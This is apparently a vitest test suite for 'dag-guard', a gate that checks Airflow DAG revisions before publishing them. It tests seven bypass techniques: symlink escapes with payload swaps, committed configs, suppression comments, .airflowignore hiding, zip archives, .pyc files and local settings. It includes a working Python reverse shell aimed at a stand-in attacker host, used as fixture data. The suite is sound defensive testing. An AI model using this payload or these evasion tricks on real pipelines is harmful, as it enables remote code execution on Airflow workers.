/**
 * Issue 11: the seven ways a committer got a reverse shell past the gate into the published folder. Each case
 * commits to a real git repository, flips a git-sync-style link to a real `git worktree` of each revision, runs
 * `dag-guard gate` through the CLI as git-sync's exechook would, and polls the published folder every 50 ms
 * throughout (following links, as Airflow would): the hostile marker must never be readable there, the revision
 * must be refused, and the status must say why.
 */
import { spawn, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as zlib from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { BIN, CLEAN_DAG, git, readJson, tmpDir } from './helpers';

/**
 * Whether `dag-guard check --enforce` exists (branch enforce-scope). Until it is merged, the cases that need it
 * are skipped with a loud warning. TODO(lead): remove this guard after merging enforce-scope.
 */
const ENFORCE_READY = (() => {
  const empty = tmpDir('dg-enforce-probe-');
  const r = spawnSync(process.execPath, [BIN, 'check', '--enforce', '--no-config', empty], { encoding: 'utf8' });
  return !/unknown option/i.test(`${r.stderr}${r.stdout}`) && r.status !== 2;
})();
if (!ENFORCE_READY) {
  console.warn('\n*** SKIPPING enforce-dependent bypass tests (config in tree via pyproject, inline suppressions, .airflowignore, zip, pyc, airflow_local_settings): `dag-guard check --enforce` is not available on this branch yet ***\n');
}
const enforceIt = ENFORCE_READY ? it : it.skip;

export const REVERSE_SHELL = (marker: string): string => `"""${marker}"""
import os
import pty
import socket

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("c2.attacker.invalid", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
pty.spawn("/bin/sh")
`;

/** A file's content, or a symlink to create (the target text, as the committer wrote it). */
export type Entry = string | Buffer | { symlink: string } | null;

/** A zip archive with stored (uncompressed) members, as `zipfile` writes with ZIP_STORED. */
export function storedZip(members: Record<string, string>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of Object.entries(members)) {
    const data = Buffer.from(text);
    const fname = Buffer.from(name);
    const crc = zlib.crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(fname.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(fname.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, fname, data);
    centrals.push(central, fname);
    offset += local.length + fname.length + data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Object.keys(members).length, 8);
  end.writeUInt16LE(Object.keys(members).length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

export interface GateRun {
  revision: string;
  exitCode: number | null;
  stderr: string;
  status: any; // eslint-disable-line @typescript-eslint/no-explicit-any
}

export interface PolledGating {
  pub: string;
  runs: GateRun[];
  /** Published paths whose content (links followed, as Airflow reads them) held the marker. */
  sightings: string[];
  /** Symlinks ever seen in the published folder. */
  links: string[];
  polls: number;
}

/**
 * Commits each revision to a real git repository, checks it out as a git worktree behind a link that flips like
 * git-sync's, runs `dag-guard gate` (CLI) on it, and polls `<publish-to>/current` every 50 ms from before the
 * first run until after the last. `between(i, pub)` runs after revision i was gated (e.g. to swap a payload).
 */
export async function gateRevisionsPolling(opts: {
  revisions: ((ctx: { pub: string; root: string }) => Record<string, Entry>)[];
  marker: string;
  gateArgs?: string[];
  between?: (i: number, pub: string) => void | Promise<void>;
}): Promise<PolledGating> {
  const base = fs.realpathSync(tmpDir('dg-bypass-'));
  const work = path.join(base, 'work');
  const root = path.join(base, 'git-sync-root');
  const pub = path.join(base, 'dags-live');
  const trusted = path.join(base, 'trusted', 'dag-guard.toml');
  fs.mkdirSync(path.dirname(trusted), { recursive: true });
  fs.writeFileSync(trusted, 'fail-on = "high"\n'); // the operator's config, outside the synced tree
  fs.mkdirSync(root);
  fs.mkdirSync(pub);
  git(base, 'init', '-q', work);

  const out: PolledGating = { pub, runs: [], sightings: [], links: [], polls: 0 };
  const seen = new Set<string>();
  const poll = (): void => {
    out.polls++;
    const walk = (d: string, rel: string): void => {
      let entries: fs.Dirent[];
      try {
        entries = fs.readdirSync(d, { withFileTypes: true });
      } catch {
        return; // swapped or pruned meanwhile
      }
      for (const e of entries) {
        const p = path.join(d, e.name);
        const r = rel ? `${rel}/${e.name}` : e.name;
        if (e.isSymbolicLink() && !seen.has(`link:${r}`)) {
          seen.add(`link:${r}`);
          out.links.push(r);
        }
        try {
          const st = fs.statSync(p); // follows links, as Airflow's import would
          if (st.isDirectory()) {
            if (!e.isSymbolicLink()) walk(p, r);
          } else if (st.isFile() && fs.readFileSync(p).includes(opts.marker) && !seen.has(r)) {
            seen.add(r);
            out.sightings.push(r);
          }
        } catch {
          /* dangling or gone */
        }
      }
    };
    walk(path.join(pub, 'current'), '');
  };
  const timer = setInterval(poll, 50);
  try {
    for (let i = 0; i < opts.revisions.length; i++) {
      for (const [rel, entry] of Object.entries(opts.revisions[i]({ pub, root }))) {
        const p = path.join(work, rel);
        fs.rmSync(p, { force: true, recursive: true });
        if (entry === null) continue;
        fs.mkdirSync(path.dirname(p), { recursive: true });
        if (typeof entry === 'object' && !Buffer.isBuffer(entry)) fs.symlinkSync(entry.symlink, p);
        else fs.writeFileSync(p, entry);
      }
      git(work, 'add', '-A');
      git(work, 'commit', '-q', '--allow-empty', '-m', `revision ${i}`);
      const rev = git(work, 'rev-parse', 'HEAD');
      const wt = path.join(root, '.worktrees', rev);
      git(work, 'worktree', 'add', '-q', '--detach', wt, rev);
      const tmpLink = path.join(root, `.repo.tmp-${i}`);
      fs.symlinkSync(path.join('.worktrees', rev), tmpLink);
      fs.renameSync(tmpLink, path.join(root, 'repo'));

      const child = spawn(process.execPath, [BIN, 'gate', '--source', path.join(root, 'repo'), '--publish-to', pub, '--config', trusted, ...(opts.gateArgs ?? [])], {
        stdio: ['ignore', 'ignore', 'pipe'],
        env: { ...process.env, GITSYNC_HASH: rev },
      });
      let stderr = '';
      child.stderr!.on('data', (d) => (stderr += d));
      const exitCode = await new Promise<number | null>((r) => child.once('exit', (c) => r(c)));
      poll();
      out.runs.push({ revision: rev, exitCode, stderr, status: readJson(path.join(pub, '.dag-guard', 'status.json')) });
      await opts.between?.(i, pub);
    }
    await new Promise((r) => setTimeout(r, 200));
  } finally {
    clearInterval(timer);
  }
  poll();
  return out;
}

const CLEAN = { 'dags/etl.py': CLEAN_DAG };

/** The shared verdict: first revision live, every hostile one refused with `why` in the status, marker never seen. */
function expectRefused(g: PolledGating, why: RegExp): void {
  const [first, ...rest] = g.runs;
  expect(first.exitCode, first.stderr).toBe(0);
  expect(first.status.verdict).toBe('published');
  for (const r of rest) {
    expect(r.exitCode, r.stderr).toBe(1);
    expect(r.status.verdict).toBe('rejected');
    expect(r.status.live.revision).toBe(first.revision);
    expect(JSON.stringify({ message: r.status.message, findings: r.status.findings, links: r.status.links })).toMatch(why);
  }
  expect(g.sightings).toEqual([]);
  expect(g.links).toEqual([]);
  expect(g.polls).toBeGreaterThan(5);
}

describe('gate bypasses (issue 11)', () => {
  it('5. symlink escape: `h/up -> ../../..` + `h/evil.py -> up/<publish-to>/current/dags/payload.txt`, payload swapped after the check', async () => {
    const marker = 'HOSTILE-SYMLINK-5';
    const g = await gateRevisionsPolling({
      marker,
      revisions: [
        () => ({ ...CLEAN, 'dags/payload.txt': 'x = 1\n' }),
        // Harmless at check time: evil.py resolves (through the published folder) to the live, harmless payload.
        ({ pub }) => ({
          'h/up': { symlink: '../'.repeat(30).slice(0, -1) },
          'h/evil.py': { symlink: `up/../${pub.slice(1)}/current/dags/payload.txt` },
        }),
        // The swap: payload.txt is not Python, so nothing scans it; through the link it becomes evil.py.
        () => ({ 'dags/payload.txt': REVERSE_SHELL(marker) }),
      ],
    });
    expectRefused(g, /GATE-SYMLINK/);
    for (const r of g.runs.slice(1)) {
      const rejected = r.status.links.rejected.map((l: { path: string }) => l.path).sort();
      expect(rejected).toEqual(['h/evil.py', 'h/up']);
      expect(r.status.links.rejected[0].reason).toMatch(/resolves outside the checked tree/);
    }
    expect(fs.readFileSync(path.join(g.pub, 'current', 'dags', 'payload.txt'), 'utf8')).toBe('x = 1\n');
  }, 120_000);

  it('a clean revision with in-tree symlinks is published without a single symlink in the published folder', async () => {
    const g = await gateRevisionsPolling({
      marker: 'never-present-marker',
      revisions: [
        () => ({
          ...CLEAN,
          'lib/helpers.py': 'def helper():\n    return 1\n',
          'dags/helpers.py': { symlink: '../lib/helpers.py' },
          'dags/lib': { symlink: '../lib' },
        }),
      ],
    });
    expect(g.runs[0].exitCode, g.runs[0].stderr).toBe(0);
    expect(g.runs[0].status.verdict).toBe('published');
    expect(g.runs[0].status.links.materialised.map((l: { path: string }) => l.path).sort()).toEqual(['dags/helpers.py', 'dags/lib']);
    expect(g.links).toEqual([]);
    const live = fs.realpathSync(path.join(g.pub, 'current'));
    const walk = (d: string): string[] =>
      fs.readdirSync(d, { withFileTypes: true }).flatMap((e) =>
        e.isSymbolicLink() ? [path.join(d, e.name)] : e.isDirectory() ? walk(path.join(d, e.name)) : [],
      );
    expect(walk(live)).toEqual([]);
    expect(fs.readFileSync(path.join(live, 'dags', 'lib', 'helpers.py'), 'utf8')).toContain('def helper');
  }, 60_000);

  it('1. a config file committed in the tree (.dag-guard.toml excluding the folder) is not used by the gate', async () => {
    const marker = 'HOSTILE-CONFIG-1';
    const g = await gateRevisionsPolling({
      marker,
      revisions: [
        () => CLEAN,
        () => ({ '.dag-guard.toml': 'exclude = ["dags/ops/**"]\nfail-on = "critical"\nignore = ["DG6", "DG5"]\n', 'dags/ops/healthcheck.py': REVERSE_SHELL(marker) }),
      ],
    });
    expectRefused(g, /dags\/ops\/healthcheck\.py/);
  }, 60_000);

  it('--config inside the checked source is refused (exit 2), also anywhere under git-sync\'s root', () => {
    const base = fs.realpathSync(tmpDir('dg-cfg-'));
    const wt = path.join(base, 'root', '.worktrees', 'abc');
    fs.mkdirSync(wt, { recursive: true });
    fs.writeFileSync(path.join(wt, 'dag-guard.toml'), 'fail-on = "critical"\n');
    fs.mkdirSync(path.join(base, 'root', '.worktrees', 'other'));
    fs.writeFileSync(path.join(base, 'root', '.worktrees', 'other', 'x.toml'), 'fail-on = "critical"\n');
    fs.symlinkSync('.worktrees/abc', path.join(base, 'root', 'repo'));
    for (const cfg of [path.join(base, 'root', 'repo', 'dag-guard.toml'), path.join(wt, 'dag-guard.toml'), path.join(base, 'root', '.worktrees', 'other', 'x.toml')]) {
      const r = spawnSync(process.execPath, [BIN, 'gate', '--source', path.join(base, 'root', 'repo'), '--publish-to', path.join(base, 'pub'), '--config', cfg], { encoding: 'utf8' });
      expect(r.status, r.stderr).toBe(2);
      expect(r.stderr).toMatch(/--config .* lies inside the checked source/);
      expect(r.stderr).not.toMatch(/\n\s+at /);
    }
    expect(fs.existsSync(path.join(base, 'pub', 'current'))).toBe(false);
  });

  enforceIt('1b. a [tool.dag-guard] table in a committed pyproject.toml is not used by the gate', async () => {
    const marker = 'HOSTILE-PYPROJECT-1';
    const g = await gateRevisionsPolling({
      marker,
      revisions: [() => CLEAN, () => ({ 'pyproject.toml': '[tool.dag-guard]\nexclude = ["dags/ops/**"]\n', 'dags/ops/healthcheck.py': REVERSE_SHELL(marker) })],
    });
    expectRefused(g, /dags\/ops\/healthcheck\.py/);
  }, 60_000);

  enforceIt('2. inline suppressions (`# dag-guard: ignore[...]`, `# nosec`, `# noqa`) are not honoured for non-suppressible rules', async () => {
    const marker = 'HOSTILE-SUPPRESS-2';
    const suppressed = REVERSE_SHELL(marker)
      .split('\n')
      .map((l) => (/^(import|s\.|os\.|pty\.|s = )/.test(l) ? `${l}  # dag-guard: ignore[DG501,DG601,DG607,DG608] -- reviewed  # nosec  # noqa: S602` : l))
      .join('\n');
    const g = await gateRevisionsPolling({ marker, revisions: [() => CLEAN, () => ({ 'dags/healthcheck.py': suppressed })] });
    expectRefused(g, /dags\/healthcheck\.py/);
  }, 60_000);

  enforceIt('3. a file hidden by .airflowignore (`*_dag.py`) is still checked', async () => {
    const marker = 'HOSTILE-AIRFLOWIGNORE-3';
    const g = await gateRevisionsPolling({
      marker,
      revisions: [() => CLEAN, () => ({ 'dags/.airflowignore': '*_dag.py\n', 'dags/healthcheck_dag.py': REVERSE_SHELL(marker) })],
    });
    expectRefused(g, /dags\/healthcheck_dag\.py/);
  }, 60_000);

  enforceIt('4. a reverse shell inside a .zip archive in the DAG folder is checked', async () => {
    const marker = 'HOSTILE-ZIP-4';
    const g = await gateRevisionsPolling({
      marker,
      revisions: [() => CLEAN, () => ({ 'dags/packaged.zip': storedZip({ 'healthcheck.py': REVERSE_SHELL(marker) }) })],
    });
    expectRefused(g, /packaged\.zip/);
  }, 60_000);

  enforceIt('6. a compiled __pycache__/*.pyc beside a benign .py is refused', async () => {
    const marker = 'HOSTILE-PYC-6';
    // Magic of CPython 3.11, flags 1 (unchecked hash): Airflow would run it instead of the .py.
    const pyc = Buffer.concat([Buffer.from([0xa7, 0x0d, 0x0d, 0x0a, 1, 0, 0, 0]), Buffer.alloc(8), Buffer.from(`\xe3${marker}`, 'latin1')]);
    const g = await gateRevisionsPolling({
      marker,
      revisions: [() => CLEAN, () => ({ 'dags/__pycache__/etl.cpython-311.pyc': pyc })],
    });
    expectRefused(g, /__pycache__\/etl\.cpython-311\.pyc/);
  }, 60_000);

  enforceIt('7. airflow_local_settings.py in the DAG folder, hidden with .airflowignore, is refused', async () => {
    const marker = 'HOSTILE-LOCAL-SETTINGS-7';
    const g = await gateRevisionsPolling({
      marker,
      revisions: [() => CLEAN, () => ({ '.airflowignore': 'airflow_local_settings\\.py\nairflow_local_settings.py\n', 'airflow_local_settings.py': REVERSE_SHELL(marker) })],
    });
    expectRefused(g, /airflow_local_settings\.py/);
  }, 60_000);
});
